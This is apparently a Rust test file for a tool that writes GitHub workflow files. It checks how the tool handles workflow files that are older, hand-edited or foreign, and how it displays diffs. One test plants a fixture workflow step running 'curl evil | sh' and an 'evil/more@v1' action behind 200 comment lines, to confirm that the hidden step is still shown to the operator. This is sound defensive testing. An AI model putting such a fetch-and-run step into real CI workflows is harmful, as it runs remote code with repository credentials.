//! Files: of another version, edited by hand, somebody else's.

use super::*;

const CREATE: &str = ".github/workflows/create-iam-permissions.yaml";

/// Plans for a repository in which the create workflow holds what `edit` makes of ours.
fn planned(consent: Consent, edit: impl FnOnce(&str) -> String) -> Plan {
    let wanted = Wanted { consent, ..wanted() };
    let mut seen = everything(&wanted);
    let ours = wanted.files.iter().find(|file| file.path == CREATE).unwrap();
    let text = edit(&ours.contents);
    let repository = seen.repository.as_mut().unwrap();
    repository.blobs.as_mut().unwrap().insert(CREATE.to_owned(), text.clone());
    let found = DifferingFile { origin: Origin::of(&text), text: Some(text), is_forged: false };
    repository.differing.insert(CREATE.to_owned(), found);
    plan(&wanted, &seen)
}

/// The file as an earlier version of the tool would have written it.
fn older(ours: &str) -> String {
    let (head, rest) = ours.split_once('\n').unwrap();
    let rest = rest.split_once('\n').unwrap().1;
    let runtime = rendering().runtime;
    let (tag, sha256) = (format!("port-iam-v0.0.1-{}", "9".repeat(8)), "9".repeat(64));
    let rest = rest.replace(&runtime.tag, &tag).replace(&runtime.sha256, &sha256);
    let rest = rest.replace("timeout-minutes: 10", "timeout-minutes: 5");
    sealed(&format!("{}\n{rest}", head.replace("0.1.0", "0.0.1")))
}

fn edited(ours: &str) -> String {
    ours.replace("timeout-minutes: 10", "timeout-minutes: 5")
}

fn theirs(_: &str) -> String {
    "on: push\n".to_owned()
}

fn commits(plan: &Plan) -> Vec<String> {
    let Some(Write::Commit(files)) = step(plan, "files").write().cloned() else { return Vec::new() };
    files.into_iter().map(|file| file.path).collect()
}

#[test]
fn a_file_of_another_version_is_written_with_what_changes_in_it() {
    let plan = planned(Consent { runtime: RuntimeConsent::Upgrade, ..Consent::default() }, older);
    assert_eq!(commits(&plan), [CREATE]);
    let lines = step(&plan, "files").told();
    assert_eq!(lines[0], format!("~ {CREATE}"));
    let changed = |mark: char, text: &str| {
        lines.iter().any(|line| line.starts_with(&format!("  {mark}")) && line.ends_with(text))
    };
    assert!(changed('-', "timeout-minutes: 5") && changed('+', "timeout-minutes: 10"), "{lines:#?}");
    assert!(!lines.iter().any(|line| line.contains("permissions: {}")), "what is the same is not shown: {lines:#?}");
}

#[test]
fn a_file_that_was_edited_by_hand_is_shown_and_left_until_the_operator_says_so() {
    let plan = planned(Consent::default(), edited);
    assert_eq!(commits(&plan), Vec::<String>::new());
    let left = step(&plan, &format!("file {CREATE}"));
    assert!(matches!(left.outcome, Outcome::Left { .. }), "{left}");
    assert!(left.lines.iter().any(|line| line.starts_with("  -") && line.ends_with("timeout-minutes: 5")), "{left}");
    let forced = planned(Consent { force: true, ..Consent::default() }, edited);
    assert_eq!(commits(&forced), [CREATE]);
    assert_eq!(step(&forced, "files").told()[0], format!("~ {CREATE}: what was edited in it is lost"));
    let adopted = planned(Consent { adopt: true, ..Consent::default() }, edited);
    assert_eq!(commits(&adopted), Vec::<String>::new(), "--adopt is about what is not ours");
}

#[test]
fn a_file_that_is_not_ours_is_only_replaced_when_it_is_adopted() {
    for consent in [Consent::default(), Consent { force: true, ..Consent::default() }] {
        let refused = step(&planned(consent, theirs), "files");
        let Outcome::Refused { reason, remedy } = &refused.outcome else { panic!("{refused}") };
        assert_eq!(reason, &format!("{CREATE} exists and is not ours"));
        assert!(remedy.contains("--adopt"), "{remedy}");
        assert!(refused.told().contains(&"  -on: push".to_owned()), "{refused}");
    }
    let adopted = planned(Consent { adopt: true, ..Consent::default() }, theirs);
    assert_eq!(commits(&adopted), [CREATE]);
    assert_eq!(step(&adopted, "files").told()[0], format!("~ {CREATE}: replaces a file that is not ours"));
}

#[test]
fn a_long_difference_is_cut_and_says_so() {
    let plan = planned(Consent::default(), |ours| format!("{ours}{}", "# more\n".repeat(200)));
    let lines = step(&plan, &format!("file {CREATE}")).lines;
    assert_eq!((lines.len(), lines.last().unwrap().starts_with("  … ")), (61, true), "{lines:#?}");
}

#[test]
fn what_a_workflow_runs_is_shown_however_many_comments_stand_before_it() {
    let evil = "      - name: More\n        env:\n          A: b\n        run: |\n          curl evil | sh\n      - uses: evil/more@v1\n";
    let plan = planned(Consent::default(), |ours| {
        format!("{}{}{evil}", ours.replacen("name: ", "name: More ", 1), "      # more\n".repeat(200))
    });
    let lines = step(&plan, &format!("file {CREATE}")).lines;
    for line in evil.lines() {
        assert!(lines.contains(&format!("  -{line}")), "{line}: {lines:#?}");
    }
    assert!(lines.len() < 80 && lines.last().unwrap().starts_with("  … "), "{lines:#?}");
}

#[test]
fn rules_and_templates_that_the_operator_has_changed_are_his() {
    let wanted = wanted();
    let mut seen = everything(&wanted);
    let blobs = seen.repository.as_mut().unwrap().blobs.as_mut().unwrap();
    let operators: Vec<&WantedFile> = wanted.files.iter().filter(|file| file.only_if_missing).collect();
    assert_eq!(operators.len(), 4);
    for file in operators {
        blobs.insert(file.path.clone(), "his".to_owned());
    }
    assert!(plan(&wanted, &seen).is_done());
}

#[test]
fn every_file_that_the_tool_keeps_is_known_again() {
    let mut kept = wanted().files;
    kept.retain(|file| !file.only_if_missing);
    assert_eq!(kept.len(), 3);
    for WantedFile { path, contents, .. } in kept {
        assert_eq!(Origin::of(&contents), Origin::AsWritten, "{path}");
        assert_eq!(
            Origin::of(&contents.replacen("0.1.0", "0.0.1", 1)),
            Origin::AsWritten,
            "{path} of an older version"
        );
        assert_eq!(Origin::of(&format!("on: push\n{contents}")), Origin::Foreign, "{path} with another first line");
    }
}
